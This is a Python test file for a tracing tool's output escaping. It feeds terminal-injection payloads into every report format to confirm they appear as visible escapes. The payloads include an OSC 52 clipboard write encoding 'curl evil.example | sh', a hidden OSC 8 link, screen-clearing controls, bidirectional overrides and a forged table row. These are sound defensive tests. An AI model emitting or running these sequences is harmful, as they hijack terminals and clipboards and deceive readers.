"""Text from a node or a user never reaches a reader raw (casstrace.terminal): OSC 52 (the
clipboard), OSC 8 (a hyperlink), DCS, C1 controls, the one-byte CSI 0x9b, newlines, and the
bidirectional and other invisible format characters (U+202E reverses what follows it) are shown as
visible escapes in every text and live output, the Markdown, the HTML page and its charts, and the
Prometheus labels, and cannot forge a row of a table; the JSON keeps the data whole."""

import json
import re
import subprocess
import sys
import unicodedata

import pytest

from casstrace.analyses.model import WeightedStack
from casstrace.analyses.watch import ComponentRead, StatementIO, Watch
from casstrace.reports import ReportOptions, render
from casstrace.reports.document import (
    Block,
    Chart,
    Code,
    Document,
    FlameGraph,
    Items,
    Query,
    Section,
    Series,
    Table,
    VerdictLine,
)
from casstrace.reports.prometheus import Exposition
from casstrace.reports.watch import document
from casstrace.terminal import json_printable, printable
from casstrace_cli import CASSTRACE
from synthetic_traces import wide_select_c0

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
DCS = "\x1bP1$qm\x1b\\"  # a device control string, ended by ST
C1 = "\x9d0;pwned\x9c"  # OSC and ST as one-byte C1 controls
CSI = "\x9b2J"  # the one-byte CSI: clears the screen
FORGED_ROW = "x\n  1  SELECT * FROM forged  1  1"
BIDI = "\u202eevil\u2066"
PAYLOADS = [OSC52, DCS, C1, CSI, FORGED_ROW, "a\rb", "\x7f", "\u2028", BIDI, "\t"]


# Unicode's controls, format characters (bidirectional, zero-width, tags) and separators: what a
# terminal obeys or a reader cannot see
UNSEEN = ("Cc", "Cf", "Zl", "Zp")


def raw_controls(text: str) -> list[str]:
    """The characters a terminal would obey or a reader would not see (the newlines between lines, and
    casstrace's own colours excepted)."""
    return [c for c in re.sub(r"\x1b\[[0-9;]*m", "", text) if c != "\n" and unicodedata.category(c) in UNSEEN]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_printable_leaves_nothing_a_terminal_obeys(payload):
    shown = printable(f'SELECT v AS "{payload}" FROM ks.t')
    assert raw_controls(shown) == [] and "\n" not in shown
    assert printable(shown) == shown  # escaping twice changes nothing


def test_printable_says_what_was_there():
    assert printable(OSC52).startswith("\\x1b]52;c;") and printable(OSC52).endswith("\\x07")
    assert printable(CSI) == "\\x9b2J"
    assert printable("a\nb") == "a\\nb"
    assert printable("a\u202eb\u200bc\ufeffd\U000e0041e") == "a\\u202eb\\u200bc\\ufeffd\\U000e0041e"
    assert printable("été — ok ⚠️ 🟢") == "été — ok ⚠️ 🟢"  # printable text, accents, dashes and emoji are left alone


def test_printable_escapes_every_character_unicode_says_is_unseen():
    """Its table against the running Python's Unicode database: every control, format character
    (category Cf: bidirectional controls, zero-width spaces and joiners, tags) and separator; and
    nothing a reader sees."""
    unseen = "".join(chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in UNSEEN)
    assert raw_controls(printable(unseen)) == []
    assert printable(unseen).count("\\") == len(unseen)  # one escape each
    seen = "".join(chr(code) for code in range(0x3000) if unicodedata.category(chr(code)) not in UNSEEN)
    assert printable(seen) == seen


def _statement(text: str) -> StatementIO:
    return StatementIO(
        statement=text,
        sampled_executions=3,
        estimated_executions=300,
        sstable_bytes=3000,
        estimated_sstable_bytes=300000.0,
        sstable_read_bytes_per_execution=1000.0,
        data_read_bytes_per_execution=1000.0,
        components=[ComponentRead("ks.t", "Data", 1000.0, 1000.0, 0.0)],
        rows_per_execution=1.0,
        bytes_per_row=1000.0,
        latency_p50_s=None,
        latency_p99_s=None,
        consistency=["ONE"],
        unmatched_threads=["Thread\x1b]0;title\x07"],
        run_command=f"casstrace run '{text}'",
    )


def _watch(statements: list[StatementIO]) -> Watch:
    return Watch(
        trace_path="w.trace",
        complete=True,
        warnings=["a node said \x1b]52;c;AAAA\x07"],
        notes=[],
        duration_s=10.0,
        probability=0.01,
        statements=statements,
        sstable_bytes=3000,
        explained_bytes=3000,
        unexplained=[],
        context={},
    )


HOSTILE = [f'SELECT v AS "{payload}" FROM ks.t WHERE k = ?' for payload in PAYLOADS]


@pytest.mark.parametrize("format_", ["text", "md", "json"])
def test_a_watch_report_shows_hostile_statements_escaped(format_):
    report = render(document(_watch([_statement(s) for s in HOSTILE])), format_, ReportOptions(color=True))
    assert raw_controls(report) == []
    if format_ == "json":  # the same statements, escaped the JSON way
        assert [s["query"] for s in json.loads(report)["statements"]] == HOSTILE
    else:  # no forged row: the table has one row per statement, and no line starts the forged one
        assert not any(line.lstrip().startswith("1  SELECT * FROM forged") for line in report.splitlines())


def test_the_statements_table_keeps_one_row_per_statement():
    report = render(document(_watch([_statement(s) for s in HOSTILE])), "text", ReportOptions(color=False))
    rows = [line for line in report.splitlines() if re.match(r"\s+\d+\s+SELECT", line)]
    assert len(rows) == len(HOSTILE)


def test_the_live_table_escapes_statements(monkeypatch, capsys):
    from casstrace.cli.watch import LiveTable

    LiveTable(top=20)(_watch([_statement(s) for s in HOSTILE]))
    shown = capsys.readouterr().err
    assert raw_controls(shown) == []
    assert len(shown.splitlines()) == 2 + len(HOSTILE)  # its header, then one line per statement


def test_json_printable_keeps_the_data():
    data = {"q": "a\x9bb\x85c\u2028d\u202ee\U000e0041f"}  # a tag beyond the BMP
    document_ = json.dumps(data, ensure_ascii=False)
    assert raw_controls(json_printable(document_)) == []
    assert json.loads(json_printable(document_)) == data
    assert "\\udb40\\udc41" in json_printable(document_)  # the tag as JSON's surrogate pair


@pytest.mark.parametrize("format_", ["text", "md", "json"])
def test_report_of_a_trace_with_a_hostile_query(tmp_path, format_):
    trace = tmp_path / "hostile.trace"
    wide_select_c0(trace, query=f'SELECT c0 AS "{OSC52}{CSI}{FORGED_ROW}" FROM demo.wide WHERE id = 1')
    done = subprocess.run([*CASSTRACE, "report", str(trace), "--format", format_], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    shown = done.stdout.decode()
    assert raw_controls(shown) == [] and "\x1b]52" not in shown
    assert not any(line.lstrip().startswith("1  SELECT * FROM forged") for line in shown.splitlines())


def test_an_error_line_escapes_what_the_user_gave(tmp_path):
    done = subprocess.run(
        [*CASSTRACE, "report", str(tmp_path / f"missing{OSC52}\n.trace")], capture_output=True, timeout=120
    )
    assert done.returncode == 2
    assert b"\x1b" not in done.stderr and len(done.stderr.splitlines()) == 1, done.stderr


def test_printable_is_linear():
    """A megabyte of control characters is escaped at once (str.translate: one pass)."""
    text = (OSC52 + CSI + "\n") * 20_000
    shown = printable(text)
    assert raw_controls(shown) == [] and sys.getsizeof(shown) > len(text)


SGR = "\x1b[31m"  # red from here on
OSC8 = "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"  # a hyperlink the reader does not see the address of
RLO = "\u202e"  # right-to-left override: what follows is shown reversed
HOSTILE_TEXT = f"red{SGR} link{OSC8} csi{CSI} rlo{RLO}1 = di"
HOSTILE_QUERY = f'SELECT c0 AS "{HOSTILE_TEXT}" FROM demo.wide WHERE id = ?'
# what each shows instead: the visible codes, as long as they are printed
SHOWN = [
    "red\\x1b[31m",
    "link\\x1b]8;;https://evil.example/\\x1b\\here\\x1b]8;;\\x1b\\",
    "csi\\x9b2J",
    "rlo\\u202e1 = di",
]


def _hostile_document() -> Document:
    """A report whose every kind of text, drawings included, holds the hostile text."""
    blocks: list[Block] = [
        Query(HOSTILE_QUERY, "the measured executions"),
        Code(HOSTILE_TEXT),
        Items([("table", HOSTILE_TEXT)]),
        Table(("file",), [(HOSTILE_TEXT,)]),
        Chart(HOSTILE_TEXT, HOSTILE_TEXT, "bytes", [1.0, 2.0], [Series(HOSTILE_TEXT, [1.0, 2.0])]),
        FlameGraph(HOSTILE_TEXT, [WeightedStack((f"org.{HOSTILE_TEXT}.read",), 10)], "bytes"),
    ]
    return Document(
        HOSTILE_TEXT,
        {"query": HOSTILE_QUERY},
        [Section(HOSTILE_TEXT, blocks)],
        subject=HOSTILE_TEXT,
        verdict=VerdictLine("flagged", HOSTILE_TEXT, [HOSTILE_TEXT], HOSTILE_QUERY),
        warnings=[HOSTILE_TEXT],
    )


@pytest.mark.parametrize("format_", ["text", "md", "html", "json"])
def test_every_format_shows_hostile_text_as_its_visible_codes(format_):
    report = render(_hostile_document(), format_, ReportOptions(color=True))
    if format_ == "html":  # what comes after plotly's own script (which is no text from outside)
        report = report[report.index("</head>") :]
    assert raw_controls(report) == []
    if format_ == "json":  # the same data, whole
        assert json.loads(report) == {"query": HOSTILE_QUERY}
        return
    if format_ == "md":  # the query's code block: as printable shows it, no Markdown escaping
        report = report[report.index("```sql") : report.index("```", report.index("```sql") + 1)]
    assert [shown for shown in SHOWN if shown not in report] == []


def test_the_html_page_shows_hostile_text_in_its_title_and_charts_as_visible_codes():
    page = render(_hostile_document(), "html")
    title = page[page.index("<title>") : page.index("</title>")]
    assert raw_controls(title) == [] and "\\u202e1 = di" in title
    figures = re.findall(r"Plotly\.newPlot\((.*?)\)\s*};?\s*</script>", page, re.S)
    assert len(figures) == 2  # the chart and the flame graph
    for figure in figures:
        # plotly's encoder would write a raw ESC, CSI or RLO as \u001b, \u009b, \u202e (an odd number of
        # backslashes before the u); the visible codes come as \\x1b, \\x9b, \\u202e
        assert not re.search(r"(?<!\\)(?:\\\\)*\\u(?:001b|009b|202e)", figure), figure
        assert "red\\\\x1b[31m" in figure and "rlo\\\\u202e1 = di" in figure


def test_a_metrics_label_shows_hostile_text_as_its_visible_codes():
    page = Exposition(top=5).page(_watch([_statement(HOSTILE_QUERY)]), [])
    assert raw_controls(page) == []
    (line,) = [
        line
        for line in page.splitlines()
        if line.startswith("casstrace_statement_executions_total{") and "sampled" in line
    ]
    (escaped,) = re.findall(r'statement="((?:[^"\\]|\\.)*)"', line)
    label = re.sub(r"\\(.)", lambda match: {"n": "\n"}.get(match[1], match[1]), escaped)  # the exposition's unescaping
    assert [shown for shown in SHOWN if shown not in label] == []
    checked = subprocess.run(["promtool", "check", "metrics"], input=page, capture_output=True, text=True)
    assert checked.returncode == 0, checked.stderr
